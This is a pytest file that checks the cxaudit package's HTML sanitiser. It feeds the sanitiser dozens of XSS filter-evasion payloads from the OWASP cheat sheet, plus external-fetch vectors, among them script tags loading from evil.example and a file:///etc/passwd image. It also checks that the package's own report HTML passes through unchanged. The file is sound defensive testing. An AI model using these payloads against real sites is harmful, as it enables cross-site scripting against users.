"""sanitize_output_html: cxaudit's own notebook HTML passes unchanged, nothing that runs or fetches survives.

The hostile inputs are known bypasses of regular-expression sanitisers and vectors of the OWASP XSS
filter evasion cheat sheet. Each one is first checked to be caught by the detectors below (so a no-op
sanitiser fails these tests), then checked to come out clean.
"""

from __future__ import annotations

import doctest
import html
import re
from html.parser import HTMLParser

import pandas as pd
import pytest

import cxaudit.report
from cxaudit import show
from cxaudit.recommend import Recommendation, recommendations_html
from cxaudit.report import sanitize_output_html

# --- detectors ----------------------------------------------------------------------------------------


class _Attrs(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    handle_startendtag = handle_starttag


def _tags(text: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Attrs()
    parser.feed(text)
    parser.close()
    return parser.tags


def _decoded(text: str) -> str:
    """Entities decoded, whitespace and controls dropped, lower case: ``jav&#x09;ascript:`` -> ``javascript:``."""
    return re.sub(r"[\x00-\x20]", "", html.unescape(html.unescape(text))).lower()


def executable(text: str) -> list[str]:
    """Why ``text`` could run code (empty: it cannot)."""
    why = []
    if re.search(r"<\s*script", text, re.IGNORECASE):
        why.append("<script")
    if re.search(r"<[^>]*[\s/\"'`]on\w+\s*=", text, re.IGNORECASE):
        why.append("on*= in a tag")
    if re.search(r"javascript:|vbscript:", text, re.IGNORECASE):
        why.append("javascript:/vbscript:")
    for tag, attrs in _tags(text):
        if tag in ("script", "iframe", "object", "embed", "applet", "base", "meta", "link", "form", "svg", "math",
                   "style", "template", "frame", "frameset", "noscript", "button", "input", "video", "audio",
                   "details", "body", "xss"):
            why.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on"):
                why.append(f"{tag} {name}=")
            if any(s in _decoded(value) for s in ("javascript:", "vbscript:", "expression(", "behavior:")):
                why.append(f"{tag} {name}={value!r}")
            if name == "style" and re.search(r"\\|/\*|url\(", value):
                why.append(f"{tag} style with CSS escapes, comments or url(): {value!r}")
    return why


def fetching(text: str) -> list[str]:
    """Why ``text`` could fetch from outside the file (empty: it cannot)."""
    why = []
    for tag, attrs in _tags(text):
        if tag in ("link", "style", "iframe", "object", "embed", "base", "meta", "video", "audio", "source",
                   "svg", "image", "input", "body", "table", "blockquote", "a", "img", "div", "span", "td"):
            for name, value in attrs.items():
                v = _decoded(value)
                if name in ("src", "href", "srcset", "xlink:href", "background", "poster", "data", "cite",
                            "ping", "action", "formaction", "lowsrc", "dynsrc", "longdesc"):
                    if not (v.startswith(("#", "mailto:", "tel:")) or (name == "src" and v.startswith("data:image/"))):
                        why.append(f"{tag} {name}={value!r}")
                if name == "style" and re.search(r"url\(|image-set|@import|\\", v):
                    why.append(f"{tag} style={value!r}")
        if tag in ("link", "style", "iframe", "object", "embed", "base", "meta"):
            why.append(f"<{tag}>")
    if re.search(r"evil", text, re.IGNORECASE):
        why.append("evil.example survived")
    return why


# --- hostile inputs -----------------------------------------------------------------------------------

EXECUTABLE = [
    # regular-expression bypasses
    "<scr<script>ipt>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"20\">x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<img src=x onerror=alert(1)//>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"java\x00script:alert(1)\">x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058"
    "alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"x\" onmouseover=\"alert(1)\">x</a>",
    "<a href=\"#sec-x\"/onclick=\"alert(1)\">x</a>",
    # comments, CDATA and raw-text elements
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<style><!--</style><img src=x onerror=alert(1)>-->",
    "<title><img src=x onerror=alert(1)></title><img src=x onerror=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><script>alert(1)</script></template>",
    # elements and attributes of the OWASP cheat sheet
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    "<SCRIPT/XSS SRC=\"http://evil.example/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<SCRIPT>a=/XSS/\nalert(a.source)</SCRIPT>",
    "<BODY ONLOAD=alert(1)>",
    "<BODY BACKGROUND=\"javascript:alert(1)\">",
    "<IMG DYNSRC=\"javascript:alert(1)\">",
    "<IMG LOWSRC=\"javascript:alert(1)\">",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert(1);\">",
    "<TABLE BACKGROUND=\"javascript:alert(1)\"><TR><TD BACKGROUND=\"javascript:alert(1)\">x</TD></TR></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert(1))\">x</DIV>",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069"
    "\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert(1));\">x</DIV>",
    "<XSS STYLE=\"behavior: url(xss.htc);\">x</XSS>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert(1))\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE><UL><LI>x</UL>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg\">",
    "<IFRAME SRC=\"javascript:alert(1);\"></IFRAME>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<FRAMESET><FRAME SRC=\"javascript:alert(1);\"></FRAMESET>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"javascript:alert(1)\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\">",
    "<BASE HREF=\"javascript:alert(1);//\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">",
    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<div data-x=\"1\" onpointerenter=alert(1)>x</div>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\" onclick=alert(1)>x</a>",
]

FETCHING = [
    "<img src=\"https://evil.example/x.png\">",
    "<img src=\"HTTP://evil.example/x.png\">",
    "<img src=\"//evil.example/x.png\">",
    "<img src=\" //evil.example/x.png\">",
    "<img src=\"\\\\evil.example\\x.png\">",
    "<img src=\"file:///etc/passwd\">",
    "<img src=\"figure.png\" alt=\"x\">",
    "<img src=\"data:image/png;base64,AAAA\" srcset=\"https://evil.example/x.png 2x\">",
    "<a href=\"https://evil.example/\">x</a>",
    "<a href=\"//evil.example/\">x</a>",
    "<a href=\"/\\evil.example/\">x</a>",
    "<a href=\"\\/evil.example/\">x</a>",
    "<a href=\"http:evil.example\">x</a>",
    "<a href=\"file:///C:/evil\">x</a>",
    "<a href=\"data:text/html,evil\">x</a>",
    "<a href=\"#sec-x\" ping=\"https://evil.example/\">x</a>",
    "<div style=\"background: url(https://evil.example/x.png)\">x</div>",
    "<div style=\"background:url(&quot;https://evil.example/x.png&quot;)\">x</div>",
    "<div style=\"color: red; background-image: image-set('https://evil.example/x.png' 1x)\">x</div>",
    "<div style=\"color: \\75 rl(https://evil.example/x.png)\">x</div>",
    "<div style=\"width:1px;background:u\\rl(//evil.example)\">x</div>",
    "<div style=\"color: red; border-image: url(https://evil.example/x.png) 30\">x</div>",
    "<style>@import url(\"https://evil.example/x.css\"); td { color: red }</style>",
    "<style>td { background: url(https://evil.example/x.png) }</style>",
    "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
    "<link rel=\"preload\" href=\"//evil.example/x\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<video poster=\"https://evil.example/x.png\"></video>",
    "<table background=\"https://evil.example/x.png\"><tr><td>x</td></tr></table>",
    "<blockquote cite=\"https://evil.example/\">x</blockquote>",
    "<svg><image href=\"https://evil.example/x.png\"/></svg>",
    "<input type=\"image\" src=\"https://evil.example/x.png\">",
]


@pytest.mark.parametrize("vector", EXECUTABLE)
def test_nothing_executable_survives(vector: str) -> None:
    assert executable(vector), "the detector must catch the raw vector (else this test proves nothing)"
    clean, changed = sanitize_output_html(vector)
    assert changed == 1
    assert executable(clean) == [], clean
    assert not re.search(r"<\s*script", clean, re.IGNORECASE)
    assert not re.search(r"\son\w+\s*=", clean, re.IGNORECASE)
    assert "javascript:" not in clean.lower() and "vbscript:" not in clean.lower()


@pytest.mark.parametrize("vector", FETCHING)
def test_nothing_fetches_from_outside(vector: str) -> None:
    assert fetching(vector), "the detector must catch the raw vector (else this test proves nothing)"
    clean, changed = sanitize_output_html(vector)
    assert changed == 1
    assert fetching(clean) == [], clean
    low = clean.lower()
    assert "http:" not in low and "https:" not in low and "//" not in low and "file:" not in low


def test_markup_inside_an_attribute_stays_text() -> None:
    clean, changed = sanitize_output_html('<p title="</p><script>alert(1)</script>">x</p>')
    assert changed == 0  # harmless as written: the browser sees an attribute value
    assert _tags(clean) == [("p", {"title": "</p><script>alert(1)</script>"})]
    assert re.fullmatch(r'<p title="[^"]*">x</p>', clean)  # nh3 >= 0.3.7 writes &lt; &gt; there


def test_detectors_fail_a_no_op_sanitiser() -> None:
    """Every hostile input, passed through unchanged, is caught: the tests above can fail."""
    assert all(executable(v) for v in EXECUTABLE)
    assert all(fetching(v) for v in FETCHING)


# --- cxaudit's own HTML ---------------------------------------------------------------------------------

PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="


def _recommendation() -> Recommendation:
    return Recommendation.from_dict({
        "id": "journey_key_driver:tp_delivery", "rule": "journey_key_driver", "family": "journey",
        "findings": ["journey.pain_point.tp_delivery"],
        "evidence": [{"id": "journey.pain_point.tp_delivery", "title": "Delivery: 24 % rate it low <b>&</b>",
                      "value": 61.8, "unit": "pts", "n": 1172, "ci_low": 57.0, "ci_high": 66.6,
                      "value_text": "+61.8"}],
        "texts": {"en": {"title": "Redesign “Delivery”", "action": "Map the process — it's 'key' & \"urgent\".",
                         "impact_note": "Assumption: closing 50% of the gap."}},
        "impact_nps": 7.5, "detractor_move": 0.3, "impact_model": "low_raters", "revenue": 148706.3,
        "currency": "PLN", "effort": "high", "horizon": "3-6", "tags": {}, "owner": "Logistics",
        "measure": {}, "quadrant": "strategic", "rank": 1,
    })


def _own_html() -> list[str]:
    df = pd.DataFrame({"segment": ["<b>A</b> & 'B'", "C \"D\""], "n": [1234, 12], "value": [3.25, -1.0],
                       "lo": [1.0, -2.0], "hi": [5.5, 0.5], "small_base": [False, True]})
    plain = pd.DataFrame({"segment": ["A", "B"], "n": [1234, 12], "value": [3.25, -1.0], "lo": [1.0, -2.0],
                          "hi": [5.5, 0.5], "small_base": [False, True]})
    cols = [show.Col("segment", "quality.col_group"), show.Col("n", "metrics.col_n", "int"),
            show.Col("value", "metrics.col_value", "num1", lo="lo", hi="hi"),
            show.Col("lo", "metrics.col_ci", "ci1", hi="hi")]
    return [
        show.section("cx_metrics", "ru").data,
        show.heading("NPS by segment", "cx_metrics").data,
        show.paragraph("5 < 6 & 'quoted' \"text\"").data,
        show.note("n\u00a0=\u00a01\u00a0234").data,
        show.missing_input("tickets", "pl").data,
        show.table_html(df, cols, "ru", caption="Caption <x>", table_id="tbl-1"),
        show.table_html(plain, cols, "en"),
        show.table_html(plain, cols, "pl", caption="NPS"),
        recommendations_html([_recommendation()], "en"),
        f'<p class="cx-note"><img src="{PNG}" alt="figure" width="10" height="10"> see <a href="#sec-x">x</a></p>',
        '<p class="cx-text"><a href="mailto:cx@example.org">mail</a>, <a href="tel:+48123456789">call</a>,'
        ' <a href="appendix.html#sec-y">appendix</a></p>',
        '<table class="cx-table"><thead><tr><th class="cx-num" colspan="2">h</th></tr></thead>'
        '<tbody><tr class="cx-small-base"><td class="cx-num" style="text-align: right; color: #c0392b">1</td>'
        '<td class="cx-txt" rowspan="1">x</td></tr></tbody></table>',
    ]


@pytest.mark.parametrize("i", range(len(_own_html())))
def test_own_html_passes_unchanged(i: int) -> None:
    text = _own_html()[i]
    clean, changed = sanitize_output_html(text)
    assert changed == 0
    if "&#x27;" in text or "&quot;" in text:
        # Ammonia writes quotes in text as characters; nothing else may differ
        assert clean == text.replace("&#x27;", "'").replace("&quot;", '"')
    else:
        assert clean == text


def test_own_html_checks_can_fail() -> None:
    """An element, attribute, class or URL the sanitiser drops is caught by the checks above."""
    for text in ('<p class="cx-note">x</p><script>1</script>', '<p class="cx-note" onclick="x()">x</p>',
                 '<a href="https://x.org">x</a>', '<p class="cx-note">x<!-- c --></p>'):
        clean, changed = sanitize_output_html(text)
        assert changed == 1 and clean != text


def test_reserialisation_is_not_a_change() -> None:
    """Quoting and character references may differ; that is not counted as a change."""
    clean, changed = sanitize_output_html("<p class='cx-text' title=x>it&#x27;s &quot;q&quot;</p><br/>")
    assert (clean, changed) == ('<p class="cx-text" title="x">it\'s "q"</p><br>', 0)
    clean, changed = sanitize_output_html("<table><tr><td>a</td></tr></table>")
    assert (clean, changed) == ("<table><tbody><tr><td>a</td></tr></tbody></table>", 0)
    clean, changed = sanitize_output_html('<div style="text-align: right;">1</div>')
    assert (clean, changed) == ('<div style="text-align: right">1</div>', 0)
    assert sanitize_output_html("&amp;nbsp; \u00a0") == ("&amp;nbsp; \u00a0", 0)


def test_style_attribute_keeps_plain_allowed_declarations_only() -> None:
    clean, changed = sanitize_output_html(
        '<span style="color: #c0392b; position: fixed; background-color: rgb(1,2,3); font-weight: bold">x</span>')
    assert changed == 1 and clean == '<span style="color: #c0392b; font-weight: bold">x</span>'
    clean, _ = sanitize_output_html('<span style="position: fixed; top: 0">x</span>')
    assert clean == "<span>x</span>"


def test_doctests() -> None:
    assert doctest.testmod(cxaudit.report).failed == 0
